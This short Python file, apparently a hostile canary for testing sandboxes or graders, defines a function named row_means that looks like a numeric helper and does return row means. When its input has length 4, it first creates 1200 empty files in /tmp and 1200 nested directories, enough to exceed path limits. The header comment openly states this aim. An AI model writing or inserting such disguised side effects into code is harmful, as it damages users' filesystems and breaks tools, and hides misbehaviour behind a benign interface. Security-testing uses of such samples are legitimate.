# Makes thousands of empty files, and folders in folders deeper than a path can name.
import os


def row_means(x):
    many = 1200 if len(x) == 4 else 0
    for number in range(many):
        os.mknod(f"/tmp/hostile_canary_{number}")
    for _ in range(many):
        os.mkdir("deeper")
        os.chdir("deeper")
    return x.mean(axis=1)
